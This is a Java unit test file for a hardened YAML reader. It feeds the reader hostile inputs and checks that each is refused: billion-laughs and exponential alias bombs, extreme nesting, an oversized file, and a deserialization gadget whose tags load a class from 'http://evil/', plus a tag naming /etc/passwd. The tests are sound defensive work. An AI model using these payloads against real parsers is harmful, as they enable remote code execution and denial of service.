package dev.steward.catalog.load.yaml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.steward.catalog.model.Problem;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Hostile and odd YAML: each becomes one clear, located error, quickly, with memory to spare. */
@Timeout(20)
class SafeYamlReaderTest {
    private final SafeYamlReader reader = new SafeYamlReader();

    private YamlFile read(String yaml) {
        return reader.read("catalog-yaml/x.yaml", yaml.getBytes(StandardCharsets.UTF_8));
    }

    private static Problem onlyProblem(YamlFile file) {
        assertEquals(1, file.problems().size(), () -> "expected one problem, got " + file.problems());
        return file.problems().get(0);
    }

    @Test
    void billionLaughsIsRefused() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) yaml.append(i == 0 ? "" : ",").append('*').append(p);
            yaml.append("]\n");
        }
        Problem p = onlyProblem(read(yaml.toString()));
        assertTrue(p.message().contains("alias"), p.message());
    }

    @Test
    void aliasExpansionUnderTheAliasLimitIsStillBoundedByNodeCount() {
        // 25 levels of two aliases each: 50 aliases, but 2^25 values once expanded.
        StringBuilder yaml = new StringBuilder("l0: &l0 [x, x]\n");
        for (int i = 1; i <= 25; i++) {
            yaml.append("l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l")
                    .append(i - 1).append("]\n");
        }
        Problem p = onlyProblem(read(yaml.toString()));
        assertTrue(p.message().contains("expands to more than"), p.message());
    }

    @Test
    void fiftyMegabyteFileIsRefusedBeforeParsing() {
        byte[] big = new byte[50 * 1024 * 1024];
        java.util.Arrays.fill(big, (byte) 'a');
        Problem p = onlyProblem(reader.read("catalog-yaml/big.yaml", big));
        assertEquals(1, p.line());
        assertTrue(p.message().contains("52428800 bytes, over the limit"), p.message());
    }

    @Test
    void tenThousandLevelsOfFlowNestingAreRefused() {
        Problem p = onlyProblem(read("a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n"));
        assertTrue(p.message().contains("nested too deeply") || p.message().contains("Nesting Depth"), p.message());
    }

    @Test
    void tenThousandLevelsOfBlockNestingAreRefused() {
        Problem p = onlyProblem(read("- ".repeat(10_000) + "deep\n"));
        assertTrue(p.message().toLowerCase().contains("nest"), p.message());
    }

    @Test
    void tagsNamingJavaClassesAreRefusedAtTheirLine() {
        Problem p = onlyProblem(read("""
                apiVersion: backstage.io/v1alpha1
                kind: Group
                metadata:
                  name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
                """));
        assertEquals(4, p.line());
        assertTrue(p.message().contains("tag '!!javax.script.ScriptEngineManager' is not allowed"), p.message());
        Problem custom = onlyProblem(read("key: !java.io.File /etc/passwd\n"));
        assertTrue(custom.message().contains("not allowed"), custom.message());
    }

    @Test
    void duplicateKeysAreRefusedNamingTheFirst() {
        Problem p = onlyProblem(read("""
                metadata:
                  name: a
                spec:
                  owner: x
                  owner: y
                """));
        assertEquals(5, p.line());
        assertEquals("duplicate key 'owner' (first at line 4)", p.message());
    }

    @Test
    void nonUtf8BytesAreRefusedAtTheirLine() {
        byte[] bytes = "apiVersion: v1\nkind: Group\nmetadata: {name: caf\u00e9}\n".getBytes(StandardCharsets.ISO_8859_1);
        Problem p = onlyProblem(reader.read("catalog-yaml/latin1.yaml", bytes));
        assertEquals(3, p.line());
        assertTrue(p.message().startsWith("file is not valid UTF-8: byte 0xE9"), p.message());
    }

    @Test
    void topLevelListIsReadAsAListForTheLoaderToRefuse() {
        YamlFile file = read("- a\n- b\n");
        assertEquals(List.of(), file.problems());
        assertEquals(List.of("a", "b"), file.documents().get(0).root());
    }

    @Test
    void scalarsFollowYaml12CoreSchemaLikeBackstage() {
        YamlFile file = read("""
                a: yes
                b: on
                c: 2026-10-01
                d: true
                e: 12
                f: 0x1F
                g: 1.5
                h: ~
                i: "12"
                j: 0o17
                """);
        Map<?, ?> root = (Map<?, ?>) file.documents().get(0).root();
        assertEquals("yes", root.get("a"));
        assertEquals("on", root.get("b"));
        assertEquals("2026-10-01", root.get("c"));
        assertEquals(Boolean.TRUE, root.get("d"));
        assertEquals(12L, root.get("e"));
        assertEquals(31L, root.get("f"));
        assertEquals(1.5, root.get("g"));
        assertTrue(root.containsKey("h") && root.get("h") == null);
        assertEquals("12", root.get("i"));
        assertEquals(15L, root.get("j"));
    }

    @Test
    void linesOfFieldsAreRecorded() {
        YamlFile file = read("""
                ---
                apiVersion: backstage.io/v1alpha1
                kind: Resource
                metadata:
                  name: t
                spec:
                  dependsOn:
                    - resource:a
                    - resource:b
                ---
                kind: Second
                """);
        YamlLines lines = file.documents().get(0).lines();
        assertEquals(2, file.documents().get(0).line());
        assertEquals(5, lines.lineOf("metadata.name"));
        assertEquals(9, lines.lineOf("spec.dependsOn[1]"));
        assertEquals(7, lines.lineOf("spec.dependsOn[7]"), "an unknown index falls back to its parent");
        assertEquals(11, file.documents().get(1).line());
    }

    @Test
    void aRecursiveAliasIsRefused() {
        YamlFile file = read("a: &a [*a]\n");
        assertTrue(file.problems().size() == 1, () -> file.problems().toString());
    }
}
